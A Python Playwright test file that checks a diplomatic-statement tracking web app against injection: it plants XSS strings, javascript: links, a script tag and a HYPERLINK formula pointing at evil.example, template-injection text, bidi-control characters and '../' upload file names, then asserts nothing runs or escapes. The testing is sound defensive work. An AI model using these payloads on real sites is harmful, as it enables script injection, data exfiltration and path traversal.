"""Articles, names and addresses that want to do harm: nothing of them is run, followed or taken for markup."""

import json
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from running import Served, start, stop, watch

from demarche.ledger import open_ledger
from demarche.records import Article, Party, Reading, Signal, Statement, Versions

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.slow
TRAPS = (
    "<script>document.title='owned';alert(1)</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=alert(1)>",
    "</textarea></title></style><script src=//evil.example/x.js></script>",
    '"><a href="javascript:alert(1)">click</a>',
    "{{ 7 * 7 }} ${7*7} {% raw %}",
    '=HYPERLINK("http://evil.example","x")',
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200f",
)
PAGES = (
    "today",
    "search",
    "search?what=statements",
    "search?what=articles",
    "actor?of=RUS",
    "tracks",
    "track?from=RUS&to=USA",
)
PAGES += ("positions", "commitments", "meetings", "graph", "timeline", "credibility", "review", "read")


def _trap(number: int, words: str) -> Reading:
    text = f"Headline {words}\n\nMoscow threatens {words} against Washington on day {number}."
    article = Article(
        text,
        title=f"Title {words}",
        author=words,
        outlet=f"Outlet {words}",
        url="javascript:alert(1)" if number % 2 else "http://evil.example/?q=<script>",
        file=f"../../{words}.txt",
    )
    start = text.index("threatens")
    span = article.span(start, start + 10 + len(words))
    source = article.span(text.index("Moscow"), start - 1)
    acts = ("threaten", "promise", "demand", "accuse")
    return Reading(
        article,
        statements=(Statement((source,), ("RUS",), (), (span,)),),
        signals=(
            Signal(acts[number % 4], (Party(source, "RUS", words[:30]),), (Party(None, "USA"),), ("force",), (span,)),
        ),
        versions=Versions("0", reader=words),
    )


@pytest.fixture(scope="module")
def trapped(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    path = tmp_path_factory.mktemp("trap") / "<b>trap.duckdb"
    with open_ledger(path) as ledger:
        for number, words in enumerate(TRAPS):
            reading = _trap(number, words)
            assert reading.versions is not None
            ledger.add(reading, ledger.begin_run(reading.versions))
        signals = ledger.signals()["signal_id"].to_list()
    served = start(path)
    served.name(TRAPS[0])
    for record in signals[:2]:
        assert (
            served.post("/judge", {"kind": "signal", "record": record, "verdict": "accept", "note": TRAPS[1]}).status
            == 303
        )
    yield served
    stop(served)


def _is_harmless(page: "Page", path: str) -> None:
    assert page.title() != "owned", path
    assert page.locator("main script, main img, main iframe, main style, main [onload], main [onerror]").count() == 0, (
        path
    )
    assert page.locator("a[href^='javascript' i], a[href^='data' i]").count() == 0, path
    assert not any(mark in page.content() for mark in "\u202e\u202c\u2066\u2069\u200f"), path


def test_no_trap_springs_on_any_page(trapped: Served, browser: "Browser") -> None:
    context = browser.new_context()
    watched = watch(context.new_page())
    asked: list[str] = []
    watched.page.on("request", lambda request: asked.append(request.url))
    articles = [row["article_id"] for row in json.loads(trapped.get("/search.json?what=articles").text)["rows"]]
    assert len(articles) == len(TRAPS)
    signals = [row["signal_id"] for row in json.loads(trapped.get("/search.json").text)["rows"]]
    for path in (
        *PAGES,
        *(f"article/{name}" for name in articles),
        *(f"review?at={name}" for name in signals),
        "judgements",
    ):
        watched.page.goto(f"{trapped.address}/{path}")
        _is_harmless(watched.page, path)
    context.close()
    assert not watched.faults
    assert {url for url in asked if not url.startswith((trapped.address, "data:"))} == set()


@pytest.mark.parametrize("words", TRAPS)
def test_words_of_an_address_are_only_words(trapped: Served, browser: "Browser", words: str) -> None:
    context = browser.new_context()
    watched = watch(context.new_page())
    for name in ("q", "from", "sides", "of", "at", "focus", "actor", "status", "done"):
        for path in ("search", "actor", "graph", "timeline", "review", "meetings", "credibility"):
            if name in ("q", "from", "sides") or path in ("actor", "review", "graph"):
                watched.page.goto(f"{trapped.address}/{path}?{name}={_quoted(words)}")
                _is_harmless(watched.page, path)
    context.close()
    assert not [fault for fault in watched.faults if "400" not in fault and "404" not in fault]


def _quoted(words: str) -> str:
    from urllib.parse import quote

    return quote(words)


def test_a_spreadsheet_finds_no_formula(trapped: Served) -> None:
    text = trapped.get("/search.csv?what=statements").text
    assert not any(
        cell.lstrip('"').startswith(("=", "+", "@")) for line in text.splitlines() for cell in line.split(",")
    )


def test_a_name_of_an_uploaded_file_leads_nowhere(trapped: Served, tmp_path: Path) -> None:
    edge = "xxBOUNDARYxx"
    key = trapped.form_key()
    body = (
        f'--{edge}\r\nContent-Disposition: form-data; name="form_key"\r\n\r\n{key}\r\n'
        f'--{edge}\r\nContent-Disposition: form-data; name="files"; filename="../../../../tmp/<b>x.txt"\r\n'
        f"Content-Type: text/plain\r\n\r\nMoscow warned Washington on Friday.\r\n--{edge}--\r\n"
    ).encode()
    answer = trapped.request("POST", "/read", body, content_type=f"multipart/form-data; boundary={edge}")
    assert answer.status == 303
    assert not Path("/tmp/<b>x.txt").exists()
